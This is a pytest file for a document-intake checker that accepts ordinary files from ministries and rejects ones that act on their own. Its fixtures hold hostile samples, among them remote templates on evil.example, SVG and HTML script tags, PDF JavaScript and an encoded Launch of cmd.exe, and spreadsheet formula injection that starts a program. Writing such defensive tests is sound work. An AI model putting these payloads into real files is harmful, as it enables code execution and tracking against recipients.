"""Files that come with answers: what ministries really send is taken in, what does something by itself is not."""

from __future__ import annotations

import random
import zlib

import pytest

from followup.reading.files.enclosed import examine
from followup.vocabulary.errors import BadInput
from tests.fixtures.hostile_files import BODY, PNG, office, package, portable
from tests.fixtures.pdf_files import column, pdf_file

_LINKED = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" '
    'TargetMode="External"/></Relationships>'
)
_SHEET = package(
    {
        "[Content_Types].xml": '<Types><Override PartName="/xl/workbook.xml" ContentType="sheet.main+xml"/></Types>',
        "xl/workbook.xml": "<workbook/>",
    }
)
_JPEG = b"\xff\xd8\xff\xe0" + b"\0" * 40
_DRAWING = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">{}</svg>'


def linked(kind: str, target: str) -> bytes:
    """A Word document that names something outside itself."""
    return office({"word/_rels/settings.xml.rels": _LINKED.format(kind=kind, target=target)})


def with_packed_object(inside: bytes, *, how: bytes = b"/Filter/FlateDecode", packed: bytes | None = None) -> bytes:
    """A PDF with an object packed away as newer programs do."""
    content = zlib.compress(inside) if packed is None else packed
    head = b"9 0 obj<</Type/ObjStm/N 1/First 5%s/Length %d>>stream\r\n" % (how, len(content))
    return pdf_file(column("Views")).replace(b"\nxref\n", b"\n" + head + content + b"\r\nendstream endobj\nxref\n")


def scanned() -> bytes:
    """A PDF with a large picture in it: any three signs stand in it somewhere."""
    noise = random.Random(3).randbytes(200_000)  # noqa: S311  the same picture every time
    shape = b"8 0 obj<</Subtype/Image/Length 600000>>stream\n" + noise + b"/JS\x8f/JS(\x80/XFA\xd9" + noise
    return pdf_file(column("Views")).replace(b"\nxref\n", b"\n" + shape + b"\nendstream endobj\nxref\n")


TAKEN = {
    "the pesticide DDE in the words": office(body=BODY.replace("Views", "DDT, DDD and p,p'-DDE")),
    "a template of the ministry": linked("attachedTemplate", "file:///C:\\Users\\me\\Templates\\note%20verbale.dotx"),
    "a link to a page": linked("hyperlink", "https://minamata.example"),
    "the sheet of a chart": office({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": _SHEET}),
    "a drawing": office({"word/media/image2.svg": _DRAWING.format('<path d="M0 0"/><use x:href="#a"/>')}),
    "a scan": scanned(),
    "packed objects": with_packed_object(b"12 0 <</Title(Views)>>"),
    "an end of line and zeros": pdf_file(column("Views")) + b"\r\n\0\0",
    "a table": b"year;tonnes\n2019;-12,5\n2020;+3\n",
    "a list": "- первый | второй!\n= третий\n".encode(),
    "Chinese of an older kind": "我们的看法：各国应当合作。请秘书处编写报告。".encode("gb18030"),
    "Russian of an older kind": "Мы считаем, что сторонам следует сотрудничать и представить доклад.".encode("cp1251"),
}


@pytest.mark.parametrize("content", TAKEN.values(), ids=TAKEN)
def test_what_ministries_send_is_taken_in(content: bytes) -> None:
    assert examine(content).media_type


REFUSED = {
    "a template from elsewhere": (linked("attachedTemplate", "https://evil.example/x.dotm"), "fetches something"),
    "a template of another machine": (linked("attachedTemplate", "file://evil.example/x.dotm"), "fetches something"),
    "a template of a share": (linked("attachedTemplate", "\\\\evil.example\\x.dotm"), "fetches something"),
    "a picture that counts readers": (linked("image", "http://evil.example/1.png"), "fetches something"),
    "a sheet with macros within": (
        office({"word/embeddings/Sheet1.xlsx": package({"xl/workbook.xml": "<w/>", "xl/vbaProject.bin": b"x"})}),
        "vbaProject",
    ),
    "a document within a document within": (
        office({"word/embeddings/a.docx": office({"word/embeddings/b.docx": office()})}),
        "embeddings/b.docx",
    ),
    "a drawing with a script": (
        office({"word/media/a.svg": _DRAWING.format("<script>alert(1)</script>")}),
        "may do something",
    ),
    "a drawing that acts": (office({"word/media/a.svg": _DRAWING.format('<g onload="x()"/>')}), "may do something"),
    "a drawing that fetches": (office({"word/media/a.svg": _DRAWING.format('<use x:href="//evil/x"/>')}), "may do"),
    "a packed action": (with_packed_object(b"12 0 <</S/JavaScript/JS(app.alert(1))>>"), "JavaScript"),
    "a packed action, spelled otherwise": (with_packed_object(b"12 0 <</S/L#61unch/F(cmd.exe)>>"), "Launch"),
    "objects packed by nobody knows what": (with_packed_object(b"", packed=b"no deflate at all"), "look into it"),
    "a PDF cut in half": (pdf_file(column("Views"), column("More"))[:-40], "cut off"),
    "a PDF with a program on its end": (portable() + b"MZ\x90" + b"\1" * 2000, "cut off"),
    "a picture that is an archive too": (_JPEG + package({"x": "y"}) + b"\xff\xd9", "something more on its end"),
    "an archive whose remark ends as a picture": (
        _JPEG + package({"x": "y"})[:-2] + b"\x02\x00\xff\xd9",
        "something more on its end",
    ),
    "a web page of an older kind": ("<html>Текст на русском языке</html>".encode("cp1251"), "web page"),
    "a web page in two bytes a letter": ("<script>alert(1)</script>".encode("utf-16"), "web page"),
    "a tag alone": (b"<img src=x onerror=alert(1)>", "web page"),
    "a cell that starts a program": (b"a,b\n=cmd|' /C calc'!A0,2\n", "formula"),
    "a cell that does so behind a sum": (b"a;\"@SUM(1+1)*cmd|'/C calc'!A0\"\n", "formula"),
    "rich text": (b"{\\rtf1 Views}", "rich text"),
    "a saved mail": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "a saved mail"),
}


@pytest.mark.parametrize(("content", "reason"), REFUSED.values(), ids=REFUSED)
def test_what_does_something_by_itself_is_refused(content: bytes, reason: str) -> None:
    with pytest.raises(BadInput, match=reason):
        examine(content)


def test_a_picture_as_scanners_make_it_is_taken_in() -> None:
    assert [examine(one).media_type for one in (PNG, _JPEG + b"\xff\xd9")] == ["image/png", "image/jpeg"]
